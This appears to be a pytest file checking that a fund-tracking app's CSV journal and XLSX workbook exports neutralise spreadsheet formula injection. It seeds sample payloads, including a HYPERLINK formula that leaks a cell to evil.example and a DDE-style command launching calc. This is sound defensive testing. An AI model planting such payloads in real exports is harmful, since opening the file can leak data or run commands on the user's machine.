"""Formula injection in exports (OWASP CSV injection): text a spreadsheet would run as a formula
is neutralised in the journal CSV and in the XLSX performance workbook, while amounts and dates
stay plain numbers; the workbook's only formulas are its own XIRR cells.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from decimal import Decimal

import openpyxl
from sqlalchemy import select, update

from fundtrack.ledger.journal import TransferDraft, post_many
from fundtrack.ledger.models import Entity, Recognition
from fundtrack.ledger.statements import parse_statement
from fundtrack.services.exports import export_journal, export_workbook
from fundtrack.services.snapshot import build_snapshot

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "'=already quoted",
]


def test_formula_text_is_neutralised_and_numbers_stay_numbers(demo_db, tmp_path):
    drafts = [
        TransferDraft(
            date=dt.date(2026, 10, 20),
            kind="contribution",
            from_code="LP-FISCAL",
            to_code="PARENT",
            amount=Decimal(1000 + i) + Decimal("0.25"),
            reference=text,
            memo=text,
        )
        for i, text in enumerate(FORMULAS)
    ]
    with demo_db.write() as session:
        post_many(session, drafts, actor="test")
    out = tmp_path / "journal.csv"
    export_journal(demo_db, out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_memo = {row["memo"]: row for row in rows}
    for i, text in enumerate(FORMULAS):
        row = by_memo["'" + text]  # exactly one leading apostrophe: shown as text, never run
        assert row["reference"].startswith("'"), row["reference"]
        # Amounts and dates are plain, so a spreadsheet still sums them.
        assert row["amount"] == f"{1000 + i}.25"
        assert Decimal(row["amount"]) == Decimal(1000 + i) + Decimal("0.25")
        assert dt.date.fromisoformat(row["date"]) == dt.date(2026, 10, 20)
    # No text cell anywhere in the file starts like a formula.
    text_columns = ("from", "to", "reference", "memo")
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
        Decimal(row["amount"])  # every amount parses as a number
        assert not row["amount"].startswith("'")
    # And the importer reads the file back to the original text (the prefix comes off again).
    statement = parse_statement("journal.csv", out.read_bytes())
    memos = {r.draft.memo for r in statement.rows if r.draft is not None}
    assert set(FORMULAS) <= memos


def test_workbook_text_is_neutralised_and_its_only_formulas_are_its_own(demo_db, tmp_path):
    snapshot = build_snapshot(demo_db, dt.date(2026, 9, 30))
    companies = [c["code"] for c in snapshot.exposure["top_companies"]][: len(FORMULAS)]
    assert len(companies) == len(FORMULAS)
    with demo_db.write() as session:
        for code, text in zip(companies, FORMULAS, strict=True):
            session.execute(
                update(Entity).where(Entity.code == code).values(name=text, name_en=text)
            )
        for recognition, text in zip(
            session.scalars(select(Recognition).order_by(Recognition.id)), FORMULAS, strict=False
        ):
            recognition.evidence = text
    for lang in ("zh", "en"):
        out = tmp_path / f"workbook-{lang}.xlsx"
        export_workbook(demo_db, "2026Q3", out, lang=lang)
        wb = openpyxl.load_workbook(out)
        texts, numbers = [], 0
        for ws in wb:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        # Our own formula, reading our own cash-flow sheet; never user text.
                        assert re.fullmatch(
                            r"=XIRR\('[^']+'!\$F\$\d+:\$F\$\d+,'[^']+'!"
                            r"\$C\$\d+:\$C\$\d+\)",
                            cell.value,
                        ), cell.value
                    elif isinstance(cell.value, str):
                        texts.append(cell.value)
                        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    elif isinstance(cell.value, (int, float)):
                        numbers += 1
                        assert cell.number_format != "General", (ws.title, cell.coordinate)
        assert numbers > 100
        for text in FORMULAS:
            # Exactly one leading apostrophe (XML reads a carriage return back as a line feed).
            assert "'" + text.replace("\r", "\n") in texts, (lang, text)
        # The raw file agrees: no formula element holds anything but XIRR over our sheet.
        with zipfile.ZipFile(out) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    xml = archive.read(name).decode("utf-8")
                    for formula in re.findall(r"<f>(.*?)</f>", xml, flags=re.S):
                        assert formula.startswith("XIRR("), formula
                        assert "HYPERLINK" not in formula
                        assert "SUM" not in formula
